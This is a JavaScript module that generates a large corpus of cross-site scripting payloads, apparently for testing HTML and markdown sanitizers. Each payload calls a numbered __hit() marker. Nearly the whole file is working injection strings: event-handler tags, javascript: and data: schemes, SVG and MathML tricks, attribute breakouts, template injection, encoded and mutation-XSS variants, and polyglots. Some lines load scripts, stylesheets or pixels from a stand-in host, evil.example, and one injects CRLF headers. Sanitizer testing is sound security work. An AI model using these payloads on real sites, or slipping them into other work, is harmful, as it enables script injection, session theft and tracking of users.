// Texts that would run a script where a page took them for more than text. Each is built from a
// context and a way to run, and calls its number, so that what ran can be named.

const schemes = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java&#10;script:', '&#106;avascript:', '&#x6A;avascript:', 'javascript&colon;', '\u0001javascript:', 'java\u00adscript:', 'jаvascript:', 'javascript://x%0a', 'data:text/html,<script>', 'data:text/html;base64,PHNjcmlwdD4', 'vbscript:', 'view-source:javascript:', 'blob:javascript:', 'feed:javascript:', 'j%61vascript:', '\\javascript:', 'livescript:', 'mocha:'];

/** All payloads: `make(call)` for each, with its own call. */
export function payloads() {
  const makers = [...elements(), ...breakouts(), ...drawings(), ...markdown(), ...templates(), ...disguises(), ...styles(), ...mutations(), ...polyglots(), ...foreign()];
  const unique = [...new Set(makers)];
  return unique.map((text, at) => text.replaceAll('@', `__hit(${at})`));
}

/** Elements that run by themselves or by an event, written in several ways. */
function elements() {
  const events = ['onload', 'onerror', 'onfocus', 'ontoggle', 'onpageshow', 'onanimationstart', 'onpointerover', 'onbeforeinput', 'onbegin', 'onstart', 'onloadstart', 'oncanplay', 'onhashchange', 'onscrollend', 'oncontentvisibilityautostatechange'];
  const able = { img: 'src=x', svg: '', body: '', video: 'src=x', audio: 'src=x', input: 'autofocus', details: 'open', iframe: '', object: 'data=x', embed: 'src=x', marquee: '', select: 'autofocus', textarea: 'autofocus', 'x-y': 'tabindex=1 autofocus', link: 'rel=stylesheet href=x', style: '' };
  const own = { img: ['onerror', 'onload'], svg: ['onload', 'onfocus'], body: ['onload', 'onpageshow', 'onhashchange'], video: ['onerror', 'onloadstart', 'oncanplay'], audio: ['onerror', 'onloadstart'], input: ['onfocus', 'onbeforeinput'], details: ['ontoggle'], marquee: ['onstart'] };
  const all = Object.entries(able).flatMap(([tag, more]) => (own[tag] ?? ['onerror', 'onfocus']).map(event => `<${tag} ${more} ${event}=@>`));
  const written = ['<script>@</script>', '<SCRIPT>@</SCRIPT>', '<script >@</script >', '<script\n>@</script\t>', '<scr<script>ipt>@</scr</script>ipt>', '<script/x>@</script>', '<script src="data:text/javascript,@"></script>', '<script src=//evil.example/x.js></script>', '<script type=module>@</script>', '<<script>@//<</script>', '<script>@', '<script x="</script><script>@</script>', '<iframe srcdoc="<script>parent.@</script>">', '<iframe src=javascript:parent.@>', '<object data="javascript:@">', '<embed src="javascript:@">', '<form action=javascript:@><button>go', '<button formaction=javascript:@>go', '<isindex action=javascript:@>', '<a href=javascript:@>go</a>', '<area href=javascript:@>', '<meta http-equiv=refresh content="0;url=javascript:@">', '<base href="javascript:@//">', '<template><script>@</script></template>', '<noscript><p title="</noscript><img src=x onerror=@>">', '<portal src=javascript:@>', '<frameset onload=@>', '<dialog open onclose=@><form method=dialog><button autofocus>'];
  return [...all, ...written, ...events.map(event => `<p tabindex=1 autofocus ${event}=@>`)];
}

/** Ways out of an attribute or an element that a text may stand in. */
function breakouts() {
  const quotes = ['"', "'", '`', '">', "'>", '`>', '" ', "' ", '&quot;>', '&#34;>', '\\">', "\\'>", '%22%3E', '"/>', '\u201d>'];
  const next = ['<img src=x onerror=@>', 'onfocus=@ autofocus x=', '<svg onload=@>'];
  const ends = ['</textarea>', '</title>', '</script>', '</style>', '</noscript>', '</option></select>', '-->', ']]>', '--!>', '<!-->', '</xmp>', '</iframe>', '</template>', '</pre>', '</a></li></ul>', '</button></form>', '<!--><!', '?>', '</dd></dl>'];
  return [...quotes.flatMap(quote => next.map(rest => quote + rest)), ...ends.flatMap(end => [`${end}<script>@</script>`, `${end}<img src=x onerror=@>`])];
}

function drawings() {
  return ['<svg><script>@</script>', '<svg><script>@<p>', '<svg><a xlink:href=javascript:@><text y=9>x', '<svg><animate onbegin=@ attributeName=x dur=1s>', '<svg><set onbegin=@ attributeName=x>', '<svg><animate attributeName=href values=javascript:@ /><a id=x><text y=9>x', '<svg><use href="data:image/svg+xml,<svg id=x onload=@ />#x">', '<svg><foreignObject><img src=x onerror=@></foreignObject>', '<svg><image href=x onerror=@>', '<svg><style><img src=x onerror=@></style>', '<svg><desc><![CDATA[</desc><script>@</script>]]></svg>', '<svg/onload=@>', '<svg\u000conload=@>', '<svg><discard onbegin=@>', '<svg><script href=data:,@ />', '<math href=javascript:@>x</math>', '<math><maction actiontype=statusline xlink:href=javascript:@>x', '<math><mi xlink:href="javascript:@">x', '<math><annotation-xml encoding="text/html"><img src=x onerror=@>', '<math><semantics><annotation-xml encoding="text/html"><script>@</script>'];
}

function markdown() {
  const links = schemes.flatMap(scheme => [`[a](${scheme}@)`, `![a](${scheme}@)`, `[a](<${scheme}@>)`]);
  const more = ['<javascript:@>', '[a]: javascript:@\n\n[a]', '[a]: data:text/html,<script>@</script> "x"\n\n[a]', '[a](https://e.example/"onmouseover="@)', '![a" onerror="@](x)', '![a](x "a\\" onerror=\\"@")', '[a](x "\' onfocus=\'@")', '[<img src=x onerror=@>](https://e.example)', '`<script>@</script>`', '```"><script>@</script>\nx\n```', '    <script>@</script>', '# <img src=x onerror=@>', '> <svg onload=@>', '- <svg onload=@>', '| <svg onload=@> |\n|-|\n| <img src=x onerror=@> |', '**<b onfocus=@ autofocus tabindex=1>**', '[a](https://e.example "x" onload=@)', '[a][`<script>@</script>`]', '<https://e.example/"onload=@>', '<a@e.example"onload=@>', '[^1]: <img src=x onerror=@>\n\n[^1]', '<!-- --><script>@</script>', '<?php @ ?><script>@</script>', '<![CDATA[<script>@</script>]]>', '![a](https://evil.example/pixel.png)', '![a](//evil.example/pixel.png)', '[a](//evil.example/\\"><script>@</script>)', '\\<script>@</script>', '[a](java\nscript:@)', '[a](\u2028javascript:@)', '[x](#"><img src=x onerror=@>)'];
  return [...links, ...more];
}

function templates() {
  const inner = ['constructor.constructor("@")()', '@', '7*7;@', "''.constructor.constructor('@')()", '$on.constructor("@")()', '_c.constructor("@")()'];
  return inner.flatMap(text => [`{{${text}}}`, `\${${text}}`, `<%= ${text} %>`, `#{${text}}`, `{%raw%}${text}`, `*{${text}}`, `[[${text}]]`]).concat(['";@;//', "';@;//", '\\";@;//', '`;@;`', '"}</script><script>@</script>', '"}];@;//', '\\u003cscript\\u003e@\\u003c/script\\u003e', '\\x3cscript\\x3e@\\x3c/script\\x3e']);
}

/** The same under other letters: entities, percents, wide and hidden characters. */
function disguises() {
  const core = ['<script>@</script>', '<img src=x onerror=@>', '<svg onload=@>'];
  const forms = [
    text => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'), text => text.replace(/</g, '&amp;lt;'), text => text.replace(/</g, '&#60;'), text => text.replace(/</g, '&#x3c'), text => text.replace(/</g, '&#0000060'), text => text.replace(/</g, '&LT;'),
    text => text.replace(/</g, '%3C').replace(/>/g, '%3E'), text => text.replace(/</g, '%253C'), text => text.replace(/</g, '＜').replace(/>/g, '＞'), text => text.replace(/</g, '﹤'), text => text.replace(/</g, '‹'),
    text => text.replace(/</g, '<\u200b'), text => text.replace(/</g, '\u2028<'), text => text.replace(/</g, '\u202e<'), text => text.replace(/</g, '\ufeff<'), text => text.replace(/</g, '+ADw-'), text => text.replace(/ /g, '/'), text => text.replace(/ /g, '\u000c'), text => text.replace(/s/g, 'ſ'), text => text.replace(/i/g, 'ı'), text => text.toUpperCase().replace('__HIT', '__hit'), text => text.replace(/</g, '\u00c0\u00bc'), text => text.replace(/</g, '\ud83d\ude00<'),
  ];
  return core.flatMap(text => forms.map(form => form(text)));
}

function styles() {
  return ['<style>*{background:url(javascript:@)}</style>', '<style>@import "//evil.example/x.css";</style>', '<style>@import url(data:text/css,*{x:@})</style>', '<p style="background:url(//evil.example/x)">', '<p style="width:expression(@)">', '<p style=-moz-binding:url(//evil.example/x#x)>', '<link rel=stylesheet href=//evil.example/x.css>', '<style></style><img src=x onerror=@>', '<p style="animation:x 1s" onanimationstart=@>', '</style><style>@keyframes x{}</style><b style="animation-name:x" onanimationend=@>', '<link rel=preload as=script href=//evil.example/x.js>', '<link rel=prefetch href=//evil.example/x>'];
}

/** What becomes something else when it is written out and read again. */
function mutations() {
  return ['<noscript><style></noscript><img src=x onerror=@></style>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=@&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@>', '<svg></p><style><a id="</style><img src=x onerror=@>">', '<math><mi><style><!--</style><img src=x onerror=@>', '<table><td><svg><desc><td></desc><img src=x onerror=@>', '<select><template><img src=x onerror=@></template></select>', '<p title="`<img src=x onerror=@>">', '<listing>&lt;img src=x onerror=@&gt;</listing>', '<xmp><p title="</xmp><img src=x onerror=@>">', '<plaintext><img src=x onerror=@>', '<title><p title="</title><img src=x onerror=@>">', '<svg><title><style><img src=x onerror=@></style></title>', '<math><annotation-xml><svg><style><img src=x onerror=@>', '<a><svg><a><img src=x onerror=@></a></svg></a>', '<div><frameset><noframes><p title="</noframes><img src=x onerror=@>">', '<table><script>@</script></table>', '<dl><dt><svg><p><style><img title="</style><img src=x onerror=@>">', '<image src=x onerror=@>', '<keygen autofocus onfocus=@>', '<![if true]><script>@</script><![endif]>', '<!--[if IE]><script>@</script><![endif]-->', '<a name=getElementById><form name=body><input name=attributes></form>', '<img name=currentScript src=x onerror=@>'];
}

function polyglots() {
  return ['javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+@//\'>', '"><svg/onload=@>\'"><img src=x onerror=@>`--><script>@</script>', '\'";!--"<x>=&{()}<script>@</script>', '*/@/*"><img/src/onerror=@>', "';@//\";@//--></script><script>@</script>", '--><!-- --\\x21> <img src=x onerror=@> -->', '%0d%0aContent-Type:text/html%0d%0a%0d%0a<script>@</script>', '\r\n\r\n<script>@</script>', '{{<script>@</script>}}"><%<img src=x onerror=@>%>', '[x](javascript:@)"><script>@</script>', '\u0000<script>@</script>', '=HYPERLINK("javascript:@","x")'];
}

/** For pages that are XML, such as feeds. */
function foreign() {
  return ['<x:script xmlns:x="http://www.w3.org/1999/xhtml">@</x:script>', '</title><script xmlns="http://www.w3.org/1999/xhtml">@</script>', ']]><x:script xmlns:x="http://www.w3.org/1999/xhtml">@</x:script>', '<?xml-stylesheet href="data:text/xsl,@"?>', '<!DOCTYPE x [<!ENTITY y "@">]>&y;', '<html xmlns="http://www.w3.org/1999/xhtml"><body onload="@"/></html>'];
}

/** Payloads put together to texts of at most so many characters, each whole. */
export function packs(all, most, between) {
  const texts = [''];
  for (const one of all) {
    const last = texts.at(-1);
    if (one.length > most) throw new Error(`longer than ${most}: ${one}`);
    if (last && last.length + between.length + one.length > most) texts.push(one);
    else texts[texts.length - 1] = last ? last + between + one : one;
  }
  return texts;
}
